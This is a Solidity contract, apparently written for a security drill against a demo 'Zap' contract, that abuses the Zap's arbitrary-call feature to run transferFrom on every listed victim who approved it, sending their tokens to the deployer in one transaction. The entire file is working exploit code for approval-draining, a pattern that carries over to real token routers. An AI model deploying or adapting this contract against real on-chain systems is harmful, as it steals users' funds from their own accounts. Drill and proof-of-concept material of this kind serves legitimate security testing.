// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Zap} from "../../contracts/demo/Zap.sol";

/// @title ApprovalDrainer: has the demo's {Zap} take what users allowed it to take, for drills
/// @notice One transaction takes from as many users as it is given. Nothing of it comes from a protected contract:
/// it is their own accounts that are emptied.
contract ApprovalDrainer {
    /// @notice The deployer, who attacks and collects.
    address public immutable owner;
    Zap public immutable zap;
    IERC20 public immutable dollar;

    error NotOwner(address caller);

    constructor(Zap zap_) {
        owner = msg.sender;
        zap = zap_;
        dollar = zap_.dollar();
    }

    /// @param amount dollars to take from each
    function drain(address[] calldata victims, uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        for (uint256 i = 0; i < victims.length; i++) {
            zap.zap(0, address(dollar), abi.encodeCall(IERC20.transferFrom, (victims[i], owner, amount)));
        }
    }
}
